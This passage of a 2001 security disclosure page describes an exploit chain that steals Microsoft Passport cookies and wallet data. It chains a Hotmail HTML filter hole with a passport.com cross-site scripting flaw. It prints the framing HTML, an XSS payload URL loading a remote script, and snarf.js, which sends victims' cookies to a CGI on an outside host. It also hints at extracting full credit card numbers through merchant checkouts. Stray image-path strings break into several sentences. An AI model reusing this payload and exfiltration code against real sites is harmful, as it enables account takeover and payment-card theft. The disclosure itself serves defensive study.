Is IE wrong? You can argue about that. But if Hotmail didn't allow tags it knew nothing about, this wouldn't be a problem. In general,most current browsers have quite complex rules for parsing HTML thatcan behave in very unexpected ways. Allow what you know to be good and well formed, don't just filter what you think is bad.

Remember, if you didn't have this Hotmail hole you could still just send a link and try to social engineer the user to clicking on it. No part of this exploit relies on executing javascript in the Hotmail domain.

Step Two: Setup A Couple of Frames

In Step One, we get the user's browser to load grabit.html. All grabit.html contains is:

<frameset rows="200,200">
<FRAME NAME="me1" SRC="https://register.passport.com/ppsecure/404please">
<FRAME NAME="me2" SRC="https://register.passport.com/reg.srf?ru=https://ww.passport.com/%22%3E%3CSCRIPT%20src='http://alive.znep.com/~marcs/passport/snarf.js'%3Ej%3C/SCRIPT%3E%3Flc%3D1033">

This loads two frames. The top frame is under the /ppsecure path to allow us to steal the MSPSec cookie. We don't actually have to do this for this exploit, but I'm throwing this in just to show how trivial it is. The page doesn't exist, but that doesn't change anything.

The bottom frame exploits one of the passport.com cross site scripting holes. reg.srf, if you are logged in, ends up loading a page saying you are already logged in that includes the ru parameter without properly encoding it. At that time, snarf.js executes to actually steal the cookies.

Step Three: Stealing the Cookies

Now snarf.js is being executed in the security context of a page with a URL of http://register.passport.com/alreadysignedin.srf.

The contents of snarf.js are quite simple:

s = new String(document.URL);
if (s.indexOf('http:') == 0) {
    setTimeout('document.location="https:" + s.substring(5, s.length-1, 1000)');
} else {document.location="http://alive.znep.com/~marcs/passport/snarf.cgi?cookies=" + escape(parent.frames[0].document.cookie);

The only trick is that alreadysignedin.srf ends up being loaded as a non-SSL page, which is no good since we can't access the SSL upper frame to grab the SSL-only MSPSec cookie, due to the scripting security model. So that's no problem, we just reload the same page using SSL, at which point our code executes again, and sends the cookies from the upper frame off to a CGI script that just captures them to a log.

Part Four: So we have the cookies...

Congratulations, you have successfully stolen some cookies. You can then automate the rest of the stealing of the Passport Wallet however you want. The easy way for demonstrations is to just copy the cookies into a Netscape cookies file, and go from there. The easiest way to actually get the full credit card numbers, etc. is to go to a Passport Express Purchase enabled store, go through the checkout, and then many or most stores will show you all the information as part of the order page. I'm sure you can figure out the other ways to automate it or grab it without actually involving any merchant's site. Hint: the information is sent to the browser as part of a form that automatically posts back to the merchant site using ECML.

Exploit Conclusion

This site demonstrates a few holes that, combined, let you access a Passport user's information in ways that you shouldn't be able to. The Hotmail HTML filtering hole and this particular cross site scripting issue on passport.com will quickly be fixed, making this particular exploit stop working. But unless the deeper issues are addressed, it is still fairly trivial to come up with a new exploit using slightly different techniques. The key problems hereare that the cookies go to all .passport.com servers, broadening the attack space, and that when the user uses a password to authenticate for one purpose, the resulting token can be used for other purposes.

The Implementation: XP/IE6 "Passport authentication"

In Windows XP, Microsoft has allowed users to associate a Passport account with their Windows XP account. They also encourage users quite strongly to sign up for a Passport account, default to enabling the "automatically log me in" option, and default to having MSN Messenger startup when you login if you have a Passport account.

On the plus side(?), Windows XP does appear to introduce a "key store" so that applications such as MSN Messenger don't have to all store their passwords individually, but theycan be grouped into a single repository that can supposedly be protected with encryption. But... I was unable to figure out any of the details of this or how to actually enable encryption.

XP introduces a "passport authentication" method. It is similar to HTTP basic authentication in that it uses Authorization: headers, etc. however it has some different properties. I can not speak definitively about how it works, since I am seeing very inconsistent (and buggy?) behavior while trying to test it, and there appear to be inconsistencies or changes on some of the Passport servers that make it difficult to reproduce certain behaviors. There also appears to be no documentation available on how this protocol works, which is always suspicious from a security standpoint. However, I will make a few comments on what I have seen so far.

After associating my Passport with my XP account, I have been able to login to Windows XP, and have it automatically log me into the Passport web site, with full access to my Passport Wallet. All without prompting me for a password once! Obviously being logged in by XP was being treated as a "manual sign-in". This behavior is not consistent, however. This is clearly quite a security risk if a malicious web page can take you from a state of not being logged in, to stealing your Passport Wallet, etc. without you knowing one thing about it.

Even though Passport authentication uses variations on the standard HTTP authentication headers, Istill end up getting the various Passport cookies set when using XP, which can still be stolen in the same way they previously could. Why build your own authentication technology if it is just as easy to steal credentials from it? It is unclear to me if these cookies are just for compatibility purposes, or if only a subset offunctionality is implemented using the Passport authentication scheme. The odd thing, however, is that these cookies that are set as a result of Passport authentication are, at times, unique to the browser window they were set in. If I open a new browser window, the cookies are not sent and I am not authenticated. This is a major change from the way cookies and authentication have traditionally worked, and the implications are not clear to me. If theauthorization information were moved out of cookies, it would certainly be more difficult to steal it, however not necessarily impossible.

Having the passport authentication built into the client OS does help prevent having an attacker from creating a fake sign in screen, but... it only accomplishes that if the attacker can't make the passport authentication pop-up be displayed for their fake site.

There may be other new behaviors introduced with XP that may result in different security implications. One that I did notice is that the MSPSec cookie is set with a path of / when accessed using IE6 on XP, as opposed to the /ppsecure path when not using XP.

It is too early to comment on the security implications of the integration of Passport into Windows XP. I have seen an alarming number of inconsistencies relating to when I am and am not logged into Passport sites, and when I have to enter a password and when I don't, and when I am given an option to "remember this password" and when I am not. What I can say right now is that XP is more easily exploited in some situations due to the Passport integration, however it may be safer in "normal" circumstances.

Update (Nov 4):Microsoft has stated that the XP integration shouldnever allow a silent login that resets the last "manual sign-in" time. This does appear to fit with what I saw most of the time, but I am almost certain I saw itreset the last manual sign-in time if done immediately after logging into the XP account. I will have to look further at that. Microsoft has also stated that the cookies set using the "passport authentication" part of the XP integration aren't accessible from client scripting languages. This may explain the odd behavior of having different cookies in different browser windows, but it appears they are still accessible in some circumstances. Overall, the statement made by a Microsoft spokesperson that XP users were never vulnerable to this attack is, to the best of my knowledge, incorrect.

Other Musing and Areas Worthy of Investigation

There are a bunch of other miscellaneous things I noticed that may or may not be issues and that I haven't necessarily fully investigated, but are worth throwing out there for what they are worth...

Appendix A: Links to Information about Passport related technologies

Appendix B: What Microsoft Says They Are Doing

This section contains a summary of the mid to long range things that Microsoft says they are doing (and which were already underway) to more fully address some of these issues.I am not commenting much on them since the devil is in the details... overall, they sound fine but they have to be made reality.

$Id: index.html,v 1.182001/11/05 03:03:39 marcs Exp marcs $